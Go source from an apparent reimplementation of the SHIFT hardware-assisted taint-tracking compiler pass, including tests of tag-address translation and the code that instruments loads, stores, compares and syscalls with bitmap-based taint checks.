	start := dstAddr &^ (unit - 1)
	end := (dstAddr + uint64(size) - 1) &^ (unit - 1)
	if mem.Offset(start) >= unit {
		if spill, err := tags.Tainted(start-unit, unit); err == nil && spill {
			t.Fatalf("gran=%v dst=%#x size=%d: taint spilled into preceding unit", g, dstAddr, size)
		}
	}
	if mem.Offset(end)+2*unit <= uint64(mem.OffsetMask)+1 {
		if spill, err := tags.Tainted(end+unit, unit); err == nil && spill {
			t.Fatalf("gran=%v dst=%#x size=%d: taint spilled into following unit", g, dstAddr, size)
		}
	}
}

// TestTagTranslationEndToEnd drives real instrumented loads and stores at
// addresses across every data region — including both region-boundary
// offsets — and checks the guest's emitted tag-translation sequence agrees
// bit-for-bit with the host's taint.TagAddr for both granularities.
// Regions 0 and 7 are exercised by the pure-translation checks
// (TestGuestTranslationMatchesHost / FuzzTagAddrEquivalence) only: region
// 7 cannot be mapped (the pass manufactures its NaT source from a
// faulting ld.s at mem.Addr(7, 0)), and region 0 is the bitmap's own home
// — a data store there can alias its own tag byte (TagAddr(0) == 0), so
// it holds no program data by construction.
func TestTagTranslationEndToEnd(t *testing.T) {
	top := uint64(mem.OffsetMask) - 7 // last aligned word of a region
	offsets := []uint64{0, 8, 4096, 1 << 20, top}
	src := mem.Addr(2, 0x2000) // fixed tainted source, away from probes
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		for region := uint64(1); region <= 6; region++ {
			for _, off := range offsets {
				dst := mem.Addr(region, off)
				if dst == src {
					continue
				}
				probe(t, g, src, dst, 8)
			}
		}
		// Narrow accesses pick individual bits within a tag byte.
		for _, size := range []uint8{1, 2, 4} {
			for _, off := range []uint64{0x3000, 0x3001, 0x3006, top} {
				if off%uint64(size) != 0 {
					continue
				}
				probe(t, g, src, mem.Addr(2, off), size)
			}
		}
	}
}

// FuzzTagAddrEquivalence cross-checks the host translation against a
// faithful replication of the emitted instruction sequence over arbitrary
// addresses in all 8 regions, both granularities, byte AND bit.
func FuzzTagAddrEquivalence(f *testing.F) {
	f.Add(uint64(0))
	f.Add(mem.Addr(7, 0))
	f.Add(mem.Addr(3, uint64(mem.OffsetMask)))
	f.Add(mem.Addr(1, 0x12345678))
	f.Fuzz(func(t *testing.T, raw uint64) {
		addr := mem.Addr(raw>>61, raw) // canonicalize: drop unimplemented bits
		for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
			// The emitted sequence (emit.go emitTagAddr + mask setup).
			rTag := addr >> 61
			rTag <<= g.RegionFold()
			rOff := addr & uint64(mem.OffsetMask)
			rBit := rOff >> g.DropBits()
			guestByte := rTag | rBit
			guestBit := uint(0)
			if !g.WholeByte() {
				guestBit = uint(rOff & 7)
			}
			hostByte, hostBit := g.TagAddr(addr)
			if guestByte != hostByte || guestBit != hostBit {
				t.Fatalf("gran=%v addr=%#x: guest (%#x,%d) != host (%#x,%d)",
					g, addr, guestByte, guestBit, hostByte, hostBit)
			}
		}
	})
}
