// Package instrument implements SHIFT itself: the compiler pass that
// turns an ordinary program into a taint-tracking one (paper §3, §4,
// Figure 5). It runs on the post-register-allocation instruction stream,
// the same pipeline point the paper's GCC pass occupies, and rewrites
//
//   - every load: compute the Figure 4 tag address, read the bitmap,
//     and conditionally set the destination register's NaT bit from the
//     kept NaT-source register (or with setnat, when enhancement 1 is on);
//   - every store: test the source's NaT bit (tnat), read-modify-write
//     the bitmap, and perform the store in a NaT-tolerant way (st8.spill
//     for 8-byte stores, a predicated clear-then-store for narrower ones);
//   - every compare whose operands are not provably clean: "relax" it so
//     that tainted operands compare normally instead of clearing both
//     predicates — by spilling copies through memory to strip NaT (base
//     Itanium), by clrnat (enhancement 1), or by substituting cmp.na
//     (enhancement 2, which removes relaxation entirely).
//
// Register-preservation traffic marked ABI by the code generator is left
// alone: its NaT bits travel through UNAT, not the bitmap.
//
// The pass reserves registers r120..r126 and r127 (the NaT source) and
// predicates p8..p11, which generated code never touches.
package instrument

import (
	"fmt"
	"strings"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/staticcheck"
	"shift/internal/staticcheck/reach"
	"shift/internal/taint"
)

// Reserved instrumentation registers.
const (
	rKeep  = isa.RegKeep // OffsetMask kept live under Options.Optimize
	rTag   = 120         // tag byte address
	rOff   = 121         // implemented offset of the data address
	rVal   = 122         // tag byte value
	rBit   = 123         // bit index / mask shift amount
	rMask  = 124         // bit mask / cleaned data copy
	rAddr  = 125         // scratch-slot address / cleaned operand copy
	rAddr2 = 126         // copy of the data address / second cleaned operand
	rNaT   = isa.RegNaT
)

// Reserved instrumentation predicates.
const (
	pT  = 8  // tag/taint present
	pF  = 9  // complement of pT
	pT2 = 10 // second operand tainted
	pF2 = 11 // complement of pT2
)

// UNAT bits reserved for instrumentation spills (the generated code uses
// 0..17 for call-site temps and 32..63 for callee saves).
const (
	unatStore = 31
	unatRelax = 30
)

// badAddr is an unmapped address used to manufacture the NaT source via a
// faulting speculative load (§4.3: "SHIFT fakes an invalid address and
// issues a speculative load from it").
var badAddr = mem.Addr(7, 0)

// Options configures the pass.
type Options struct {
	// Gran selects byte- or word-level tracking.
	Gran taint.Granularity
	// Feat enables the enhancement instructions (§6.3). SetClrNaT makes
	// the pass emit setnat/clrnat; NaTAwareCmp makes it emit cmp.na.
	Feat machine.Features
	// NaTPerFunction regenerates the NaT source register at every
	// function entry instead of once at program start — the ablation the
	// paper measured at ~3X against keeping it live (§4.4).
	NaTPerFunction bool
	// NaTPerUse regenerates the NaT source immediately before every
	// tainting site: the cost a compiler pays when it cannot reserve a
	// register across the whole program.
	NaTPerUse bool
	// Permissive lists functions in which dereferencing a tainted
	// pointer is allowed (the paper's escape hatch for bounds-checked
	// translation tables, §3.3.2): their memory-access address registers
	// are cleaned before use and taint flows only through the bitmap.
	Permissive map[string]bool
	// UserGuards inserts chk.s checks before critical uses of possibly
	// tainted registers — syscall arguments and branch-register moves —
	// branching to a generated user-level handler instead of taking a
	// hardware NaT-consumption fault (§3.3.3: user-level handling of
	// security violation exceptions).
	UserGuards bool
	// SerializedTags makes byte-level bitmap updates lock-free atomic
	// (a ld1 / cmpxchg1 retry loop through ar.ccv) so multi-threaded
	// guests cannot lose tag updates to torn read-modify-writes — the
	// serialization the paper identifies as the missing piece for
	// threaded programs (§4.4). Word-level tag writes are single stores
	// and need no serialization.
	SerializedTags bool
	// Optimize enables the simple compiler optimizations the paper
	// sketches as future work (§4.4, §6.4): the OffsetMask constant is
	// kept live in a reserved register instead of re-materialised per
	// access, and the tag-address translation is reused when the same
	// unmodified address register is accessed again within a basic
	// block ("reusing the computation code for some adjacent data").
	Optimize bool
	// SkipVerify disables the post-pass static verification of the
	// instrumentation contract (internal/staticcheck). The gate is on by
	// default: an output that fails its own invariants is a pass bug,
	// not a program to run. Tools that want to inspect a broken output
	// (cmd/shiftlint) opt out and run the checker themselves.
	SkipVerify bool
	// Selective runs the whole-program taint-reachability analysis
	// (internal/staticcheck/reach) first and leaves every site it proves
	// can never touch tainted data in its original encoding: no tag
	// consult on loads, no tag update on stores, no relaxation on
	// compares. The post-pass contract verification runs in its
	// reachability-refined mode (staticcheck.CheckSelective) so the
	// sanctioned skips lint clean while everything else is still held to
	// the full contract.
	Selective bool
	// SelectiveSources gates the analysis' taint seeds by policy channel
	// ("file", "stdin", "network", "args"), mirroring how
	// policy.Config.Sources gates run-time taint marking. nil enables
	// every channel (most conservative). Only read under Selective.
	SelectiveSources map[string]bool
	// Stats, when non-nil, receives the pass' per-site accounting.
	Stats *Stats
	// ForceSkip (tests only) forces the sites at these *input* indexes to
	// keep their original encoding, modelling an unsound reachability
	// analysis: the skips are still exempted from the contract lint, so
	// the run-time oracle — not the static gate — must catch the
	// divergence. The mutation suite in internal/shift relies on this.
	ForceSkip map[int]bool

	// exemptOut, when set, receives the output-index exempt set (see
	// Exempt).
	exemptOut func(map[int]bool)
}

// Stats is the pass' site accounting: how many instrumentable sites the
// input had and what happened to each.
type Stats struct {
	// Sites is every non-ABI load, store, cmpxchg and compare.
	Sites int
	// Kept sites received the full tag/relaxation sequence.
	Kept int
	// Skipped sites kept their original encoding because the
	// reachability analysis proved them taint-free (or ForceSkip said
	// so).
	Skipped int
	// CleanCompares kept their original encoding because the local
	// cleanliness analysis proved both operands NaT-free — the full
	// (non-selective) pass skips these too, so they are not counted as
	// selective wins.
	CleanCompares int
}

// Apply rewrites prog into its instrumented form. The input program is
// not modified.
func Apply(prog *isa.Program, opt Options) (*isa.Program, error) {
	ins := &inserter{
		opt:    opt,
		tagFor: -1,
		out: &isa.Program{
			Symbols:     make(map[string]int, len(prog.Symbols)),
			DataSymbols: make(map[string]uint64, len(prog.DataSymbols)),
			DataBase:    prog.DataBase,
		},
	}

	// Copy the data segment and symbols. (NaT-stripping spills use the
	// per-thread stack red zone, so no shared scratch slot is needed.)
	data := make([]byte, len(prog.Data))
	copy(data, prog.Data)
	for name, addr := range prog.DataSymbols {
		ins.out.DataSymbols[name] = addr
	}
	ins.out.Data = data

	// Function entries (for per-function NaT regeneration and for the
	// permissive-pointer function set), plus the set of join points —
	// every label AND every raw (unlabelled) branch target. Both reset
	// the compare-cleanliness analysis and the cached tag translation:
	// a branch can enter mid-stream with different register contents
	// than the fallthrough path established.
	funcEntry := make(map[int][]string)
	joinAt := make(map[int]bool)
	for name, idx := range prog.Symbols {
		joinAt[idx] = true
		if !strings.HasPrefix(name, ".") {
			funcEntry[idx] = append(funcEntry[idx], name)
		}
	}
	for idx := range prog.Text {
		src := &prog.Text[idx]
		if src.Op.IsBranch() && src.Op != isa.OpBrRet && src.Op != isa.OpBrInd && src.Label == "" {
			joinAt[src.Target] = true
		}
	}

	// Selective mode: solve taint reachability over the input program and
	// precompute which sites may keep their original encoding.
	skip := make([]bool, len(prog.Text))
	if opt.Selective {
		ra := reach.Analyze(prog, reach.Config{
			Sources:    opt.SelectiveSources,
			Gran:       opt.Gran,
			Permissive: opt.Permissive,
		})
		for idx := range prog.Text {
			src := &prog.Text[idx]
			if src.ABI {
				continue
			}
			switch src.Op {
			case isa.OpLd, isa.OpLdS, isa.OpLdFill:
				skip[idx] = !ra.InstrumentLoad(idx)
			case isa.OpSt, isa.OpStSpill, isa.OpCmpxchg:
				skip[idx] = !ra.InstrumentStore(idx)
			case isa.OpCmp, isa.OpCmpi:
				skip[idx] = !ra.RelaxCompare(idx)
			}
		}
	}
	for idx := range opt.ForceSkip {
		if opt.ForceSkip[idx] && idx >= 0 && idx < len(skip) {
			skip[idx] = true
		}
	}

	// The NaT-source register and the kept OffsetMask register are only
	// generated when something consumes them; an unconsumed keep-live
	// sequence is dead weight the static checker (rightly) flags.
	for idx := range prog.Text {
		src := &prog.Text[idx]
		if src.ABI || skip[idx] {
			continue
		}
		switch src.Op {
		case isa.OpLd, isa.OpLdS, isa.OpCmpxchg, isa.OpLdFill:
			if !opt.Feat.SetClrNaT {
				ins.needNaT = true
			}
			ins.needMask = true
		case isa.OpSt, isa.OpStSpill:
			ins.needMask = true
		}
	}
	ins.needMask = ins.needMask && opt.Optimize

	mapping := make([]int, len(prog.Text)+1)
	clean := newCleanTracker()
	permissive := false
	var stats Stats

	for idx := range prog.Text {
		mapping[idx] = len(ins.out.Text)
		src := &prog.Text[idx]

		// The NaT source must be live before the first tainting site:
		// regenerate it at every function entry under NaTPerFunction, and
		// always at the program entry — even when no symbol labels it
		// (hand-assembled programs may start executing at a bare index).
		if idx == prog.Entry || (opt.NaTPerFunction && len(funcEntry[idx]) > 0) {
			ins.emitNaTGen()
		}
		// Entering a function?
		if names, ok := funcEntry[idx]; ok {
			permissive = false
			for _, n := range names {
				if opt.Permissive[n] {
					permissive = true
				}
			}
		}
		// Any join point: forget cleanliness facts and any cached tag
		// translation.
		if joinAt[idx] {
			clean.reset()
			ins.tagFor = -1
		}

		needsRewrite := !src.ABI &&
			(src.Op == isa.OpLd || src.Op == isa.OpLdS || src.Op == isa.OpLdFill ||
				src.Op == isa.OpSt || src.Op == isa.OpStSpill ||
				src.Op == isa.OpCmpxchg ||
				src.Op == isa.OpCmp || src.Op == isa.OpCmpi)
		if needsRewrite && src.Qp != 0 {
			return nil, fmt.Errorf("instrument: instruction %d (%s): predicated loads, stores, atomics and compares are not supported", idx, src.String())
		}
		switch {
		case src.ABI:
			ins.copy(src)
		case src.Op == isa.OpLd || src.Op == isa.OpLdFill:
			stats.Sites++
			if skip[idx] {
				stats.Skipped++
				ins.skipSite(src)
			} else {
				stats.Kept++
				ins.emitLoad(src, permissive)
			}
		case src.Op == isa.OpLdS:
			stats.Sites++
			if skip[idx] {
				stats.Skipped++
				ins.skipSite(src)
			} else {
				stats.Kept++
				ins.emitSpecLoad(src)
			}
		case src.Op == isa.OpSt || src.Op == isa.OpStSpill:
			stats.Sites++
			if skip[idx] {
				stats.Skipped++
				ins.skipSite(src)
			} else {
				stats.Kept++
				ins.emitStore(src, permissive)
			}
		case src.Op == isa.OpCmpxchg:
			stats.Sites++
			if skip[idx] {
				stats.Skipped++
				ins.skipSite(src)
			} else {
				stats.Kept++
				ins.emitCmpxchg(src, permissive)
			}
		case src.Op == isa.OpCmp || src.Op == isa.OpCmpi:
			stats.Sites++
			switch {
			case skip[idx]:
				stats.Skipped++
				ins.skipSite(src)
			case clean.compareClean(src):
				stats.CleanCompares++
				ins.copy(src)
			default:
				stats.Kept++
				ins.emitRelaxedCmp(src)
			}
		case src.Op == isa.OpSyscall && opt.UserGuards:
			ins.emitGuardedSyscall(src)
		case src.Op == isa.OpMovToBr && opt.UserGuards:
			ins.emitGuard(src.Src1, src.Qp)
			ins.copy(src)
		default:
			ins.copy(src)
		}
		clean.step(src)
		// Keep the cached tag translation honest: control transfers and
		// writes to the tracked register invalidate it.
		switch {
		case src.Op.IsBranch() || src.Op == isa.OpSyscall:
			ins.tagFor = -1
		case src.Op.HasDest() && int(src.Dest) == ins.tagFor:
			ins.tagFor = -1
		}
	}
	mapping[len(prog.Text)] = len(ins.out.Text)

	// Append the shared user-level violation handler, if any guard
	// referenced it.
	ins.emitHandler()

	// Remap symbols and raw branch targets; labelled branches re-link.
	for name, idx := range prog.Symbols {
		ins.out.Symbols[name] = mapping[idx]
	}
	for i := range ins.out.Text {
		t := &ins.out.Text[i]
		if t.Op.IsBranch() && t.Label == "" && t.Op != isa.OpBrRet && t.Op != isa.OpBrInd {
			t.Target = mapping[t.Target]
		}
	}
	ins.out.Entry = mapping[prog.Entry]
	if err := ins.out.Link(); err != nil {
		return nil, fmt.Errorf("instrument: %w", err)
	}
	if err := ins.out.Validate(); err != nil {
		return nil, fmt.Errorf("instrument: %w", err)
	}
	if !opt.SkipVerify {
		// Reachability-refined contract check: analysis-sanctioned skips
		// are exempt, everything else is held to the full contract.
		if findings := staticcheck.CheckSelective(ins.out, ins.exempt); len(findings) > 0 {
			return nil, fmt.Errorf("instrument: output violates the instrumentation contract (pass bug): %s (%d finding(s) total)",
				findings[0].String(), len(findings))
		}
	}
	if opt.Stats != nil {
		*opt.Stats = stats
	}
	if opt.exemptOut != nil {
		opt.exemptOut(ins.exempt)
	}
	return ins.out, nil
}

// ApplyWithExempt runs Apply and additionally returns the output-index
// set of analysis-sanctioned uninstrumented sites, for tools that rerun
// the contract checker themselves (cmd/shiftlint, the mutation suite).
func ApplyWithExempt(prog *isa.Program, opt Options) (*isa.Program, map[int]bool, error) {
	var ex map[int]bool
	opt.exemptOut = func(m map[int]bool) { ex = m }
	out, err := Apply(prog, opt)
	if err != nil {
		return nil, nil, err
	}
	return out, ex, nil
}
