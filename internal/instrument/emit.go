package instrument

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/mem"
	"shift/internal/taint"
)

// inserter accumulates the instrumented instruction stream.
type inserter struct {
	opt Options
	out *isa.Program

	// tagFor is the register whose translation rTag/rOff currently
	// hold, or -1. Only meaningful under Options.Optimize.
	tagFor int

	// usedHandler records that a user-level guard was emitted, so the
	// shared handler block must be appended.
	usedHandler bool

	// casN numbers the retry labels of serialized tag updates.
	casN int

	// needNaT and needMask record whether the program actually consumes
	// the NaT-source register r127 and the kept OffsetMask register:
	// generating either with no consumer is dead code the static
	// checker flags as an unconsumed speculative load.
	needNaT  bool
	needMask bool

	// exempt is the output-index set of sites the selective pass left
	// uninstrumented on the reachability analysis' word; the
	// reachability-refined contract check skips exactly these.
	exempt map[int]bool
}

func (in *inserter) copy(src *isa.Instruction) {
	in.out.Text = append(in.out.Text, *src)
}

// skipSite copies src unmodified and records its output index as
// analysis-sanctioned for the reachability-refined contract check.
func (in *inserter) skipSite(src *isa.Instruction) {
	if in.exempt == nil {
		in.exempt = make(map[int]bool)
	}
	in.exempt[len(in.out.Text)] = true
	in.copy(src)
}

// add appends an instrumentation instruction with the given cost class.
func (in *inserter) add(class isa.CostClass, ins isa.Instruction) {
	ins.Class = class
	in.out.Text = append(in.out.Text, ins)
}

// emitNaTGen materialises the NaT-source register r127 (value 0, NaT set)
// by speculatively loading from an invalid address (§4.3, Figure 5), and
// under Optimize also the kept OffsetMask register. Either half is
// skipped when nothing in the program consumes it (setnat replaces the
// r127 reads under the enhancement; a program without loads never
// taints a register).
func (in *inserter) emitNaTGen() {
	if in.needNaT {
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpMovl, Dest: rAddr, Imm: int64(badAddr)})
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpLdS, Dest: rNaT, Src1: rAddr, Size: 8})
	}
	if in.needMask {
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpMovl, Dest: rKeep, Imm: mem.OffsetMask})
	}
}

// emitTagAddr computes the Figure 4 translation: rTag becomes the tag
// byte address of the data address in reg, rOff its implemented offset.
// rBit is clobbered. key identifies the program register whose value the
// translation covers (-1 = not reusable); under Optimize, a translation
// still valid for key is skipped entirely — the "adjacent data" reuse of
// §6.4.
func (in *inserter) emitTagAddr(reg uint8, class isa.CostClass, key int) {
	if in.opt.Optimize && key >= 0 && in.tagFor == key {
		return
	}
	g := in.opt.Gran
	in.add(class, isa.Instruction{Op: isa.OpShri, Dest: rTag, Src1: reg, Imm: mem.RegionShift})
	in.add(class, isa.Instruction{Op: isa.OpShli, Dest: rTag, Src1: rTag, Imm: int64(g.RegionFold())})
	if in.opt.Optimize {
		in.add(class, isa.Instruction{Op: isa.OpAnd, Dest: rOff, Src1: reg, Src2: rKeep})
	} else {
		in.add(class, isa.Instruction{Op: isa.OpMovl, Dest: rOff, Imm: mem.OffsetMask})
		in.add(class, isa.Instruction{Op: isa.OpAnd, Dest: rOff, Src1: reg, Src2: rOff})
	}
	in.add(class, isa.Instruction{Op: isa.OpShri, Dest: rBit, Src1: rOff, Imm: int64(g.DropBits())})
	in.add(class, isa.Instruction{Op: isa.OpOr, Dest: rTag, Src1: rTag, Src2: rBit})
	in.tagFor = key
}

// emitClean strips the NaT bit of reg in place when predicate p is set,
// using clrnat when available and the spill + plain-reload trick
// otherwise (§4.1: "Setting and Clearing NaT-bit"). The spill slot is the
// stack red zone (sp-8): per-thread by construction, so instrumented
// multi-threaded programs never race on it.
func (in *inserter) emitClean(reg uint8, p uint8, class isa.CostClass) {
	if in.opt.Feat.SetClrNaT {
		in.add(class, isa.Instruction{Op: isa.OpClrNat, Qp: p, Dest: reg})
		return
	}
	in.add(class, isa.Instruction{Op: isa.OpAddi, Qp: p, Dest: rAddr, Src1: isa.RegSP, Imm: -8})
	in.add(class, isa.Instruction{Op: isa.OpStSpill, Qp: p, Src1: rAddr, Src2: reg, Size: 8, Imm: unatRelax})
	in.add(class, isa.Instruction{Op: isa.OpLd, Qp: p, Dest: reg, Src1: rAddr, Size: 8})
}

// emitLoad rewrites a load per Figure 5: consult the bitmap and taint the
// destination register when the tag bit is set. In strict mode a tainted
// address faults at the load itself (policy L1); in permissive mode the
// address is cleaned first and taint flows only through the bitmap.
// A non-ABI ld8.fill is handled identically (the original opcode and its
// UNAT bit are preserved): its destination carries the union of the
// filled NaT bit and the location's bitmap state.
func (in *inserter) emitLoad(src *isa.Instruction, permissive bool) {
	sz := src.Size
	g := in.opt.Gran

	// Copy the address: the destination may alias it, and the tag lookup
	// needs it after the data load.
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpMov, Qp: src.Qp, Dest: rAddr2, Src1: src.Src1})
	if permissive {
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpTnat, Qp: src.Qp, P1: pT2, P2: pF2, Src1: rAddr2})
		in.emitClean(rAddr2, pT2, isa.ClassNatGen)
	}

	// The original load, from the (possibly cleaned) address copy.
	orig := *src
	orig.Src1 = rAddr2
	in.out.Text = append(in.out.Text, orig)

	key := int(src.Src1)
	if permissive || src.Dest == src.Src1 {
		// A cleaned address or a destructive ld rd=[rd] invalidates the
		// translation for reuse purposes.
		key = -1
	}
	in.emitTagAddr(rAddr2, isa.ClassLoadCompute, key)
	if src.Dest == src.Src1 {
		in.tagFor = -1
	}
	in.add(isa.ClassLoadTagMem, isa.Instruction{Op: isa.OpLd, Qp: src.Qp, Dest: rVal, Src1: rTag, Size: 1})

	// Extract the tag bit(s) covering [off, off+sz). Word-level tags are
	// whole bytes, so no extraction is needed; a byte-level bitmap must
	// isolate the sz bits of a narrow access (the extra work behind the
	// paper's byte-vs-word gap).
	if g == taint.Byte && sz < 8 {
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpAndi, Qp: src.Qp, Dest: rBit, Src1: rOff, Imm: 7})
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpShr, Qp: src.Qp, Dest: rVal, Src1: rVal, Src2: rBit})
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpAndi, Qp: src.Qp, Dest: rVal, Src1: rVal, Imm: int64(1)<<sz - 1})
	}
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpCmpi, Qp: src.Qp, Cond: isa.CondNE, P1: pT, P2: pF, Src1: rVal, Imm: 0})

	// Taint the destination register.
	if in.opt.Feat.SetClrNaT {
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpSetNat, Qp: pT, Dest: src.Dest})
	} else {
		if in.opt.NaTPerUse {
			// Without a reserved NaT-source register, manufacture the
			// token on the spot by deferring a fault (§4.4's expensive
			// alternative).
			in.emitNaTGen()
		}
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpAdd, Qp: pT, Dest: src.Dest, Src1: src.Dest, Src2: rNaT})
	}
}

// emitSpecLoad rewrites a control-speculative load (ld.s). The original
// deferral semantics are kept intact — a NaT address or an inaccessible
// target manufactures a token instead of faulting, so compiler-hoisted
// loads on misspeculated paths still never trap — but a load that DOES
// return data now consults the bitmap like any other load, closing the
// speculation blind spot: secret (tainted) data reached over a
// bounds-check-bypassed ld.s carries its taint into the register file,
// survives chk.s recovery, and trips the L policies at the leak.
//
// The consult must not observe the deferred case: the tag read and the
// taint decision are predicated on "data arrived" (tnat on the
// destination right after the load — it covers both deferral causes),
// and pT is pre-cleared so the taint-inject add stays off. The tag
// translation of a NaT address is NaT-poisoned garbage, which is
// harmless precisely because everything that would consume it is
// predicated off; the cached translation is invalidated on both sides.
func (in *inserter) emitSpecLoad(src *isa.Instruction) {
	sz := src.Size
	g := in.opt.Gran

	// Copy the address: the destination may alias it, and the tag lookup
	// needs it after the data load. A NaT address propagates silently
	// through the copy, preserving the deferral trigger.
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpMov, Dest: rAddr2, Src1: src.Src1})

	// The original speculative load, from the address copy.
	orig := *src
	orig.Src1 = rAddr2
	in.out.Text = append(in.out.Text, orig)

	// pT2/pF2 = deferred / data arrived; pT pre-cleared.
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpTnat, P1: pT2, P2: pF2, Src1: src.Dest})
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpCmpi, Cond: isa.CondNE, P1: pT, P2: pF, Src1: isa.RegZero, Imm: 0})

	in.emitTagAddr(rAddr2, isa.ClassLoadCompute, -1)
	in.add(isa.ClassLoadTagMem, isa.Instruction{Op: isa.OpLd, Qp: pF2, Dest: rVal, Src1: rTag, Size: 1})
	if g == taint.Byte && sz < 8 {
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpAndi, Qp: pF2, Dest: rBit, Src1: rOff, Imm: 7})
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpShr, Qp: pF2, Dest: rVal, Src1: rVal, Src2: rBit})
		in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpAndi, Qp: pF2, Dest: rVal, Src1: rVal, Imm: int64(1)<<sz - 1})
	}
	in.add(isa.ClassLoadCompute, isa.Instruction{Op: isa.OpCmpi, Qp: pF2, Cond: isa.CondNE, P1: pT, P2: pF, Src1: rVal, Imm: 0})

	// Taint the destination register (only on the data-arrived path).
	if in.opt.Feat.SetClrNaT {
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpSetNat, Qp: pT, Dest: src.Dest})
	} else {
		if in.opt.NaTPerUse {
			in.emitNaTGen()
		}
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpAdd, Qp: pT, Dest: src.Dest, Src1: src.Dest, Src2: rNaT})
	}
	in.tagFor = -1
}

// emitStore rewrites a store per Figure 5: test the source's NaT bit,
// perform the store NaT-tolerantly, and update the bitmap.
func (in *inserter) emitStore(src *isa.Instruction, permissive bool) {
	sz := src.Size
	g := in.opt.Gran

	addr := src.Src1
	if permissive {
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Qp: src.Qp, Dest: rAddr2, Src1: addr})
		in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpTnat, Qp: src.Qp, P1: pT2, P2: pF2, Src1: rAddr2})
		in.emitClean(rAddr2, pT2, isa.ClassNatGen)
		addr = rAddr2
	}

	// Instruction 1 of Figure 5: test whether the source is tainted.
	in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpTnat, Qp: src.Qp, P1: pT, P2: pF, Src1: src.Src2})

	if sz == 8 {
		// st8.spill tolerates NaT data directly (Figure 5's choice: "we
		// choose st8.spill instead of st8 to omit additional code"). An
		// original st8.spill keeps its own UNAT bit — the program may
		// pair it with a ld8.fill.
		spillBit := int64(unatStore)
		if src.Op == isa.OpStSpill {
			spillBit = src.Imm
		}
		in.out.Text = append(in.out.Text, isa.Instruction{
			Op: isa.OpStSpill, Qp: src.Qp, Src1: addr, Src2: src.Src2, Size: 8, Imm: spillBit,
		})
	} else {
		// Narrow stores cannot spill; strip the NaT from a copy first.
		// The stripping runs only when the data is actually tainted, so
		// clean-input runs pay just the predicated-off fetch slots.
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Qp: src.Qp, Dest: rMask, Src1: src.Src2})
		in.emitClean(rMask, pT, isa.ClassNatGen)
		orig := *src
		orig.Src1, orig.Src2 = addr, rMask
		in.out.Text = append(in.out.Text, orig)
	}

	// Tag update. Word level writes its boolean tag byte directly; the
	// byte-level bitmap needs a read-modify-write with a shifted mask
	// covering the sz bits of the access.
	key := int(src.Src1)
	if permissive {
		key = -1
	}
	in.emitTagAddr(addr, isa.ClassStoreCompute, key)
	switch {
	case g.WholeByte():
		// A single store: atomic per instruction, no serialization
		// needed at word granularity.
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMov, Qp: src.Qp, Dest: rVal, Src1: isa.RegZero})
		in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAddi, Qp: pT, Dest: rVal, Src1: isa.RegZero, Imm: 1})
		in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpSt, Qp: src.Qp, Src1: rTag, Src2: rVal, Size: 1})

	case in.opt.SerializedTags:
		in.emitSerializedRMW(sz)

	default:
		in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpLd, Qp: src.Qp, Dest: rVal, Src1: rTag, Size: 1})
		if sz == 8 {
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpOri, Qp: pT, Dest: rVal, Src1: rVal, Imm: 0xff})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndi, Qp: pF, Dest: rVal, Src1: rVal, Imm: ^int64(0xff)})
		} else {
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndi, Qp: src.Qp, Dest: rBit, Src1: rOff, Imm: 7})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpMovl, Qp: src.Qp, Dest: rMask, Imm: int64(1)<<sz - 1})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpShl, Qp: src.Qp, Dest: rMask, Src1: rMask, Src2: rBit})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpOr, Qp: pT, Dest: rVal, Src1: rVal, Src2: rMask})
			in.add(isa.ClassStoreCompute, isa.Instruction{Op: isa.OpAndcm, Qp: pF, Dest: rVal, Src1: rVal, Src2: rMask})
		}
		in.add(isa.ClassStoreTagMem, isa.Instruction{Op: isa.OpSt, Qp: src.Qp, Src1: rTag, Src2: rVal, Size: 1})
	}
}

// handlerSym labels the generated user-level violation handler.
const handlerSym = "__shift.handler"

// emitGuard inserts a chk.s on reg: if it carries a token, control
// transfers to the user-level handler instead of faulting at the use.
func (in *inserter) emitGuard(reg uint8, qp uint8) {
	in.usedHandler = true
	in.add(isa.ClassNatGen, isa.Instruction{Op: isa.OpChkS, Qp: qp, Src1: reg, Label: handlerSym})
}

// emitGuardedSyscall guards every scalar argument of a syscall (§3.3.3),
// then emits the syscall itself.
func (in *inserter) emitGuardedSyscall(src *isa.Instruction) {
	for i := 0; i < isa.SyscallArgCount(src.Imm); i++ {
		in.emitGuard(uint8(isa.RegArg0+i), src.Qp)
	}
	in.copy(src)
}

